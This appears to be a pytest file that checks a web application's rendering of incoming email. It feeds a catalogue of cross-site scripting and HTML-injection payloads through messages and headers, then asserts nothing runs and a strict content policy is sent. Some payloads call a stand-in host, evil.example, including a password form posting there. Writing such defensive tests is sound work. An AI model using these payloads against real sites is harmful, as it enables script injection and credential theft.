"""Markup that wants to run, load or lead elsewhere: it is text on the page, whatever it tries."""

import re
import uuid

import pytest
from selectolax.lexbor import LexborHTMLParser

from tests.hostile.bombs import mixed, plain
from tests.hostile.conftest import Besieged

SAID = "The printer prints nothing since 9:00."

MARKUP = {
    "a script": f"<p>{SAID}</p><script>alert('RAN')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "a style": f"<style>p{{background:url(https://evil.example/RAN)}}</style><p style='color:red'>{SAID}</p>",
    "handlers": f"<p onclick=RAN() onmouseover='RAN()'>{SAID}</p><body onload=RAN()><svg/onload=RAN()>",
    "remote pictures": f"<p>{SAID}</p><img src='https://evil.example/RAN.png'><img srcset='//evil.example/RAN 2x'>",
    "links that run": f"<p>{SAID} <a href='javascript:RAN()'>here</a> <a href='&#106;avascript:RAN()'>there</a></p>",
    "links of data": f"<p>{SAID} <a href='data:text/html,<script>RAN()</script>"
    f"'>here</a><a href=vbscript:RAN>x</a></p>",
    "frames": f"<p>{SAID}</p><iframe src='https://evil.example/RAN'></iframe><object data=RAN></object><embed src=RAN>",
    "a form": f"<p>{SAID}</p><form action=https://evil.example/RAN><input name=p type=password>"
    f"<button>OK</button></form>",
    "a base and a refresh": f"<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//RAN'>"
    f"<p>{SAID}</p>",
    "markup that breaks out": f"</div></li></main></body></html><script>RAN()</script><p>{SAID}</p><!--",
    "markup as words": f"<p>{SAID} &lt;script&gt;RAN()&lt;/script&gt; &lt;img src=x onerror=RAN()&gt;</p>",
    "markup twice escaped": f"<p>{SAID} &amp;lt;script&amp;gt;RAN()&amp;lt;/script&amp;gt;</p>",
    "templates": f"<p>{SAID} {{{{7*7}}}} {{% for x in range(9) %}} ${{7*7}} <%= 7*7 %></p>",
    "namespaces": f"<math><mtext><table><mglyph><style><img src=x onerror=RAN()></style></table></math><p>{SAID}</p>",
    "a template element": f"<template><script>RAN()</script></template><noscript>"
    f"<img src=x onerror=RAN()></noscript>{SAID}",
    "null bytes": f"<scr\x00ipt>RAN()</scr\x00ipt><p>{SAID}</p>",
    "utf-7": f"+ADw-script+AD4-RAN()+ADw-/script+AD4- <p>{SAID}</p>",
}
OURS = re.compile(r"(?:/(?!/)|#|\?|$)")


def is_harmless(page: str) -> None:
    """Nothing on the page runs, loads or leads to where we did not say."""
    tree = LexborHTMLParser(page)
    assert [(script.attributes.get("src") or "")[:16] for script in tree.css("script")] == ["/static/page.js?"]
    assert tree.css("img, iframe, object, embed, style, base, meta[http-equiv], svg[onload], math, template") == []
    assert tree.css("input[type=password]") == []
    for element in tree.css("*"):
        for name, value in element.attributes.items():
            assert not name.startswith("on"), (name, value)
            assert name != "style", value
            if name in ("href", "src", "action", "srcset", "data", "formaction", "poster"):
                assert OURS.match(value or ""), (name, value)


@pytest.mark.timeout(600)
def test_markup_is_words_on_every_page(besieged: Besieged) -> None:
    for case, markup in MARKUP.items():
        id = f"markup-{uuid.uuid4().hex[:8]}"
        charset = "utf-7" if case == "utf-7" else "utf-8"
        message = besieged.take(id, plain(id, markup.encode(), f"Content-Type: text/html; charset={charset}"))
        assert SAID in message["text"], case
        for path in (f"/cases/{message['case']}", f"/messages/{message['id']}", "/"):
            answer = besieged.http.get(path)
            assert answer.status_code == 200, (case, path)
            is_harmless(answer.text)
            policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
            assert policy["default-src"] == "'none'"
            assert policy["script-src"] == policy["img-src"] == policy["style-src"] == "'self'"
            assert policy["form-action"] == "'self'"
        if case not in ("markup as words", "markup twice escaped", "utf-7", "null bytes"):
            assert "RAN" not in message["text"].replace("here", ""), case
    besieged.goes_on()


def test_what_stands_in_a_header_is_words_too(besieged: Besieged) -> None:
    evil = "<script>RAN()</script><img src=x onerror=RAN()>"
    id = f"header-{uuid.uuid4().hex[:8]}"
    content = mixed(
        id,
        b"Content-Type: text/plain\r\n\r\n" + f'{SAID} {evil} "><svg onload=RAN()>'.encode(),
        f'Content-Type: text/html; name="{evil}"\r\nContent-Disposition: attachment\r\n\r\n{evil}'.encode(),
    )
    content = content.replace(b"Aiko Mori", f'"{evil}"'.encode()).replace(b"Subject: ", f"Subject: {evil} ".encode())
    message = besieged.take(id, content)
    assert message["author"]["name"] == evil
    for path in (f"/cases/{message['case']}", f"/messages/{message['id']}", "/", "/received", "/?q=%3Cscript%3ERAN"):
        answer = besieged.http.get(path, headers={"Accept-Language": "en"})
        assert answer.status_code == 200
        is_harmless(answer.text)
    besieged.goes_on()
